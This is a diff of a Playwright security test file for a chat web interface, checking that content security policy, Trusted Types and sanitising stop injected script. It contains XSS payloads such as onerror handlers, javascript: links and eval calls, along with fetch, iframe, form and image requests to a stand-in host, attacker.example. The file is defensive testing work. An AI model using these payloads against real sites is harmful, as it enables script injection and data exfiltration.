@@ -1,4 +1,4 @@
-"""Nothing that comes from a model, a server or a file runs on the page (checklist 28; serving.md T32)."""
+"""No text from a model, a server or a file runs as code on the page."""
 
 from __future__ import annotations
 
@@ -16,36 +16,18 @@ from tests.web.fake import FakeServer
 from tests.web.payloads import PAYLOADS
 
 ALLOWED = {
-    *(
-        "P",
-        "BR",
-        "STRONG",
-        "EM",
-        "DEL",
-        "CODE",
-        "PRE",
-        "SPAN",
-        "H2",
-        "H3",
-        "H4",
-        "H5",
-        "H6",
-        "UL",
-        "OL",
-        "LI",
-        "BLOCKQUOTE",
-    ),
-    *("TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "HR", "A", "DIV", "BUTTON"),
+    *("P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "SPAN", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI"),
+    *("BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "HR", "A", "DIV", "BUTTON"),
 }
 
 
-def trap(context: BrowserContext) -> None:
-    """Have every page of a context remember what was run."""
+def count_runs(context: BrowserContext) -> None:
+    """Define `pwned()` in every page of a context; it counts its calls in `window.runs`."""
     context.add_init_script("window.runs = 0; window.pwned = () => { window.runs += 1; };")
 
 
-def assert_untouched(page: Page) -> None:
-    """Nothing ran, and nothing is there that could: no element but the known, no attribute that is a handler."""
+def assert_harmless(page: Page) -> None:
+    """Fail if `pwned()` ran, or if there are unknown elements or attributes that could run code."""
     assert page.evaluate("window.runs") == 0
     found = page.evaluate(
         """() => [...document.querySelectorAll('.body *')].map((one) =>
@@ -58,19 +40,19 @@ def assert_untouched(page: Page) -> None:
             assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value
 
 
-def test_28_forty_answers_run_nothing(context: BrowserContext, fake: FakeServer) -> None:
+def test_hostile_answers_run_no_code(context: BrowserContext, fake: FakeServer) -> None:
     assert len(PAYLOADS) == 40
-    trap(context)
+    count_runs(context)
     chat = ChatDriver(context, fake.url)
     chat.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
     for payload in PAYLOADS:
         chat.type(payload)
         answer = fake.answer()
-        for at in range(0, len(payload), 9):  # halves of elements are shown, too
+        for at in range(0, len(payload), 9):  # incomplete elements are shown, too
             answer.say(payload[at : at + 9])
         answer.end()
         chat.wait_until_idle()
-    assert_untouched(chat.page)
+    assert_harmless(chat.page)
     for link in chat.page.locator(".body a").all():
         assert link.get_attribute("rel") == "noopener noreferrer"
     for view in chat.page.get_by_role("button", name="Tokens", exact=True).all():
@@ -79,13 +61,13 @@ def test_28_forty_answers_run_nothing(context: BrowserContext, fake: FakeServer)
     assert chat.page.evaluate("window.runs") == 0
     chat.page.reload()
     chat.wait_until_ready()
-    assert_untouched(chat.page)
+    assert_harmless(chat.page)
     assert chat.page.url == f"{fake.url}/"
     chat.watch.assert_clean()
 
 
-def test_28_names_errors_tools_and_files_run_nothing(context: BrowserContext, fake: FakeServer, tmp_path: Path) -> None:
-    trap(context)
+def test_hostile_fields_and_files_run_no_code(context: BrowserContext, fake: FakeServer, tmp_path: Path) -> None:
+    count_runs(context)
     evil = "<img src=x onerror=pwned()>"
     fake.info |= {"model": evil, "dtype": evil, "calculator": True}
     chat = ChatDriver(context, fake.url)
@@ -121,18 +103,18 @@ def test_28_names_errors_tools_and_files_run_nothing(context: BrowserContext, fa
     assert page.locator("img, script[src], iframe").count() == 0
 
 
-# What each does when nothing holds it: it counts, or it asks for something elsewhere.
-HOLES = {
+# Each attack calls `pwned()` or sends a request to another server.
+ATTACKS = {
     "an inline script": "add('script', {}, 'pwned()')",
-    "a script from elsewhere": "add('script', {src: 'data:,pwned()'})",
+    "a script from a data URL": "add('script', {src: 'data:,pwned()'})",
     "an inline handler": "add('b', {onclick: 'pwned()'}).click()",
     "eval": "window.eval('pwned()')",
     "HTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned()>'); await later()",
     "HTML without a handler": "document.body.innerHTML = '<b>x</b>'; pwned()",
-    "another wall's policy": "trustedTypes.createPolicy('other', {}); pwned()",
+    "another trusted types policy": "trustedTypes.createPolicy('other', {}); pwned()",
     "a javascript: address": "add('a', {href: 'javascript:pwned()'}).click(); await later()",
-    "a request elsewhere": "await fetch('https://attacker.example/').catch(() => 0)",
-    "a picture from elsewhere": "add('img', {src: 'https://attacker.example/x.png'}); await later()",
+    "a request to another server": "await fetch('https://attacker.example/').catch(() => 0)",
+    "an image from another server": "add('img', {src: 'https://attacker.example/x.png'}); await later()",
     "a frame": "add('iframe', {src: 'https://attacker.example/'}); await later()",
     "a form": "add('form', {action: 'https://attacker.example/'}).submit(); await later()",
     "an inline style": "add('b', {style: 'background: url(https://attacker.example/x)'}, 'x'); await later()",
@@ -150,22 +132,20 @@ HELPERS = """
 """
 
 
-@pytest.mark.parametrize("hole", HOLES)
-def test_28_the_policy_holds_when_every_other_wall_has_fallen(
-    context: BrowserContext, hole: str, server_url: str
-) -> None:
-    """As if DOMPurify had let it through: the code is put into the real server's page by the test."""
-    trap(context)
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_policy_blocks_code_without_sanitizing(context: BrowserContext, attack: str, server_url: str) -> None:
+    """The test inserts the code into the real server's page, as if DOMPurify had not removed it."""
+    count_runs(context)
     chat = ChatDriver(context, server_url)
-    # In a task of its own: what the test's own tool runs directly may evaluate texts.
-    tried = f"{HELPERS} try {{ {HOLES[hole]} }} catch {{}} done();"
-    chat.page.evaluate(f"() => new Promise((done) => setTimeout(async () => {{ {tried} }}))")
+    # In a separate task, because code run directly by Playwright may use eval.
+    code = f"{HELPERS} try {{ {ATTACKS[attack]} }} catch {{}} done();"
+    chat.page.evaluate(f"() => new Promise((done) => setTimeout(async () => {{ {code} }}))")
     assert chat.page.evaluate("window.runs") == 0
     assert all("attacker" not in url or "csp" in why for url, why in chat.failed), chat.failed
     assert chat.page.url == f"{server_url}/"
 
 
-def test_28_the_policy_names_the_file_that_is_loaded_later(server_url: str, context: BrowserContext) -> None:
+def test_policy_contains_the_digest_of_the_renderer(server_url: str, context: BrowserContext) -> None:
     page = context.new_page()
     response = page.goto(server_url)
     assert response is not None
@@ -179,7 +159,7 @@ def test_28_the_policy_names_the_file_that_is_loaded_later(server_url: str, cont
     )
 
 
-def test_28_headers_of_both_pages(server_url: str, context: BrowserContext) -> None:
+def test_headers_of_both_pages(server_url: str, context: BrowserContext) -> None:
     page = context.new_page()
     for path in ("/", "/dashboard"):
         response = page.goto(server_url + path)
@@ -189,7 +169,7 @@ def test_28_headers_of_both_pages(server_url: str, context: BrowserContext) -> N
         assert parts["default-src"] == parts["base-uri"] == parts["form-action"] == parts["frame-ancestors"] == "'none'"
         assert parts["connect-src"] == "'self'" and parts["img-src"] == "data:"
         assert parts["script-src"].startswith("'sha256-") and "unsafe" not in policy
-        assert "'self'" not in parts["script-src"], "what else is served here is no script of the page"
+        assert "'self'" not in parts["script-src"], "other files of this server are not scripts of the page"
         assert parts["style-src"].startswith("'self' 'sha256-")
         assert parts["require-trusted-types-for"] == "'script'" and parts["trusted-types"] == "dompurify"
         assert response.headers["x-content-type-options"] == "nosniff"
